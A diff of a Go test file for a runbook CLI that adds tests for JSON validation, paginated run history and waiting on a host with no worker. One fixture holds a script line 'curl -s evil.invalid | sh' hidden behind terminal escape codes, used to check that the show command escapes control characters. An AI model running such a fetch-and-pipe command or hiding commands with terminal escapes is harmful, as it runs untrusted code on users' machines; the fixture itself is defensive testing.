@@ -1,6 +1,7 @@
 package main
 
 import (
+	"context"
 	"encoding/json"
 	"errors"
 	"fmt"
@@ -31,6 +32,9 @@ func TestRunbookCLI(t *testing.T) {
 		"Guarded.md": runbookDoc("Guarded", "{}", "  []", "roles: ops, admin", `echo guarded`),
 		"Missing.md": runbookDoc("Missing", "{}", "  - gone.txt", "", `echo never`),
 		"Slow.md":    runbookDoc("Slow", "{}", "  []", "", `sleep 30`),
+		// A line that a terminal would erase (cursor up, erase the
+		// line): printed raw, show would show only the innocent echo.
+		"Hidden.md": runbookDoc("Hidden", "{}", "  []", "", "curl -s evil.invalid | sh\necho tidy\x1b[1A\x1b[2K\u202e"),
 	}
 	for name, text := range books {
 		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o644); err != nil {
@@ -102,6 +106,13 @@ runbooks:
 		if err != nil || json.Unmarshal([]byte(out), &v) != nil || v.Content != books["Guarded.md"] || len(v.Claims) != 1 || v.Claims[0].Name != "roles" {
 			t.Errorf("runbook show --json: %v\n%s", err, out)
 		}
+		// The file's text is written with its control characters
+		// escaped, as ls writes another principal's command line.
+		out, _, err = cli("show", "Hidden.md")
+		if err != nil || !strings.Contains(out, "--- script ---\ncurl -s evil.invalid | sh\necho tidy\\x1b[1A\\x1b[2K\\u202e\n") ||
+			strings.ContainsAny(out, "\x1b\r\u202e") {
+			t.Errorf("runbook show of a script with terminal escapes: %v, want them escaped in\n%q", err, out)
+		}
 		_, _, err = cli("show", "Nope.md")
 		wantRefusal("show of an unknown runbook", err, client.CodeNotFound, "Runbook not found")
 	})
@@ -117,6 +128,13 @@ runbooks:
 		if err != nil || out != "Needs.md: valid\n" {
 			t.Errorf("validate: %v %q", err, out)
 		}
+		out, _, err = cli("validate", "Needs.md", "-e", "NODE=n1", "-e", "EXTRA=x", "--json")
+		var v client.RunbookValidation
+		if err != nil || json.Unmarshal([]byte(out), &v) != nil || v.File != "Needs.md" || !v.Valid {
+			t.Errorf("validate --json: %v %q", err, out)
+		}
+		_, _, err = cli("validate", "Needs.md", "--json")
+		wantRefusal("validate --json without the variables", err, client.CodeUnprocessable, "runbook Needs.md cannot run (unprocessable):")
 		_, _, err = cliAs(bobTok, "validate", "Guarded.md")
 		wantRefusal("validate without the claims", err, client.CodeForbidden, "RBAC check failed for validate")
 		_, _, err = cli("validate", "Missing.md", "--timeout", "-1s")
@@ -219,10 +237,44 @@ runbooks:
 		if err != nil || strings.Count(out, "\n") != 2 || !strings.Contains(errs, "more runs") {
 			t.Errorf("history --limit 1: %v %q\n%s", err, errs, out)
 		}
+		m := regexp.MustCompile(`--cursor (\S+)\)`).FindStringSubmatch(errs)
+		if m == nil {
+			t.Fatalf("history --limit 1 names no --cursor for the next page: %q", errs)
+		}
+		next, _, err := cli("history", "Fails.md", "--limit", "1", "--cursor", m[1])
+		if err != nil || strings.Count(next, "\n") != 2 || next == out || next != rows[0]+"\n"+rows[2]+"\n" {
+			t.Errorf("history --cursor: %v\n%s, want the second run of\n%s", err, next, strings.Join(rows, "\n"))
+		}
+		out, errs, err = cli("history", "Fails.md", "--limit", "1", "--all")
+		if err != nil || out != strings.Join(rows, "\n")+"\n" || errs != "" {
+			t.Errorf("history --limit 1 --all: %v %q\n%s, want every run", err, errs, out)
+		}
+		out, _, err = cli("history", "Fails.md", "--limit", "1", "--all", "--json")
+		var pages client.OrderList
+		if err != nil || json.Unmarshal([]byte(out), &pages) != nil || len(pages.Orders) != 4 || pages.NextCursor != nil {
+			t.Errorf("history --all --json: %v\n%s", err, out)
+		}
 		out, _, err = cliAs(bobTok, "history", "Guarded.md", "--json")
 		var page client.OrderList
 		if err != nil || json.Unmarshal([]byte(out), &page) != nil || len(page.Orders) != 1 || page.Orders[0].Status != client.StatusRejected {
 			t.Errorf("history --json of bob's refused run: %v\n%s", err, out)
+		}
+	})
+
+	t.Run("wait without a worker", func(t *testing.T) {
+		// run --wait says that the host has no worker, as submit --wait
+		// and run --follow do.
+		defer func(d time.Duration) { noWorkerCheckAfter = d }(noWorkerCheckAfter)
+		noWorkerCheckAfter = 300 * time.Millisecond
+		for _, wait := range []string{"--wait=3s", "-w"} {
+			ctx, cancel := context.WithTimeout(t.Context(), 3*time.Second)
+			var out, errb strings.Builder
+			err := run(ctx, []string{"orderly", "runbook", "run", "Hello.md", "--host", "rbc-none", wait},
+				[]string{"ORDERLY_URL=" + s.url, "ORDERLY_TOKEN=" + s.token}, strings.NewReader(""), &out, &errb)
+			cancel()
+			if err == nil || !strings.Contains(errb.String(), "orderly: host rbc-none has no worker online (never seen): the order waits until one starts; Ctrl-C stops waiting") {
+				t.Errorf("run %s on a host without a worker: %v %q", wait, err, errb.String())
+			}
 		}
 	})
 
